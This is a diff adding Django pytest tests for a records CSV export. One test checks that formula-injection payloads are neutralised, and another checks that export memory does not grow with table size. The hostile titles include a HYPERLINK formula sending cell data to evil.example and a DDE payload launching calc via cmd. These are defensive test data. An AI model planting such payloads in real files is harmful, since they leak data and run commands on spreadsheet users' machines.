@@ -96,3 +96,60 @@ def test_unknown_export_job_is_404(user_client):
     response = user_client.get("/api/exports/does-not-exist/")
     assert response.status_code == 404
     assert "not found" in response.json()["error"]
+
+
+def export_csv(services, result) -> list[dict[str, str]]:
+    """The rows of the CSV an in-process export job wrote (media is moto's S3 in these tests)."""
+    obj = services.s3().get_object(Bucket=services.env["AWS_STORAGE_BUCKET_NAME"], Key=result["name"])
+    return list(csv.DictReader(io.StringIO(obj["Body"].read().decode("utf-8"))))
+
+
+@pytest.mark.django_db
+def test_export_neutralises_spreadsheet_formulas(user, services):
+    # OWASP CSV injection: a spreadsheet runs a cell that starts with = + - @ (or tab, CR) as a formula.
+    from records.exports import export_records_csv
+
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"x")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        "\t=1",
+        "\r=1",
+    ]
+    for title in hostile:
+        Record.objects.create(title=title, body="plain text, = in the middle is fine")
+    rows = export_csv(services, export_records_csv(user.pk))
+    assert [row["title"] for row in rows] == ["'" + title for title in hostile]
+    assert {row["body"] for row in rows} == {"plain text, = in the middle is fine"}
+    assert rows[0]["id"].isdigit()
+
+
+@pytest.mark.django_db
+def test_export_memory_does_not_grow_with_the_table(user, settings, tmp_path):
+    # Built in memory, the CSV's peak was twice its size (the text and its UTF-8 bytes): 4x the rows, 4x the memory.
+    import tracemalloc
+
+    from records.exports import export_records_csv
+
+    # Local media: moto's S3 server runs in this process, and its copy of the file would count.
+    local = {"BACKEND": "django.core.files.storage.FileSystemStorage"}
+    settings.STORAGES = {**settings.STORAGES, "default": local, "exports": local}
+    settings.MEDIA_ROOT = str(tmp_path)
+
+    def export_peak(rows: int) -> tuple[int, int]:
+        have = Record.objects.count()
+        Record.objects.bulk_create((Record(title=f"r{i}", body="x" * 4096) for i in range(have, rows)), batch_size=500)
+        tracemalloc.start()
+        try:
+            result = export_records_csv(user.pk)
+            peak = tracemalloc.get_traced_memory()[1]
+        finally:
+            tracemalloc.stop()
+        return peak, (tmp_path / result["name"]).stat().st_size
+
+    small_peak, small_size = export_peak(1000)
+    large_peak, large_size = export_peak(4000)
+    assert large_size > 16_000_000 and large_size > 3.9 * small_size
+    assert large_peak < 1.5 * small_peak, f"peak {small_peak} -> {large_peak} bytes for {small_size} -> {large_size}"
+    assert large_peak < large_size / 4
